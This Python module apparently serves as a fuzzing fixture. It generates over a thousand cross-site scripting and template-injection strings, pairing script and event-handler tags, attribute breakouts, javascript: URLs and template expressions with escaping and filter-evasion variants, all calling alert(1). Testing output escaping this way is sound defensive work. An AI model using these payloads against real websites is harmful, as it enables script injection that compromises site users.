"""Texts that try to become markup or script, in every shape that a field may be shown in."""

from __future__ import annotations

import itertools
from html import escape
from urllib.parse import quote

CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "(alert)(1)", "window.alert?.(1)")
SHAPES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=data:,{}></script>",
    "<img src=x onerror={}>", "<img src=x oNeRrOr='{}'>", "<image href=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}//", "<body onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<object data=x onerror={}>",
    "<iframe src=javascript:{}>", "<iframe srcdoc='<script>parent.{}</script>'>",
    "<embed src=javascript:{}>", "<object data=javascript:{}>", "<style onload={}></style>",
    "<marquee onstart={}>x</marquee>", "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<form action=javascript:{}><button autofocus>", "<a href=javascript:{} autofocus>x</a>",
    "<isindex type=image src=x onerror={}>", "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=x onerror={}>", "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<x contenteditable onblur={}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<p style=x onanimationstart={}>",
)  # fmt: skip
BREAKS = ("", '"', "'", '">', "'>", "</p>", "</title>", "</textarea>", "</script>", "-->", "]]>",
          "</strong>", "</option></select>", "</h1>", "\\", "%22>", "&quot;>", "{{", "{%", "`")  # fmt: skip
ATTRIBUTES = ('" onmouseover={} x="', "' onfocus={} autofocus x='", '" autofocus onfocus="{}',
              "x onerror={}", '" style="x" onanimationend="{}', "javascript:{}", "JaVaScRiPt:{}",
              "java\tscript:{}", "&#106;avascript:{}", "data:text/html,<script>{}</script>")  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}",
    "{{% print(1) %}}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
)


def payloads() -> list[str]:
    """Every text once, always in the same order; more than a thousand."""
    made = [a + shape.format(call) for shape, (a, call) in zip(
        itertools.cycle(SHAPES), itertools.product(BREAKS, CALLS), strict=False)]  # fmt: skip
    made += [shape.format(call) for shape in SHAPES for call in CALLS[:3]]
    made += [at.format(call) for at in ATTRIBUTES for call in CALLS]
    made += [b + shape.format("alert(1)") for b in BREAKS for shape in SHAPES]
    made += [text.format("alert(1)") for text in TEMPLATES]
    short = [text for text in made if len(text) <= 40]
    made += [escape(text) for text in short] + [quote(text) for text in short]
    made += [text.replace("<", "\uff1c") for text in short[:40]]
    made += [text.replace("<", "<\x0b") for text in short[:40]]
    return list(dict.fromkeys(made))
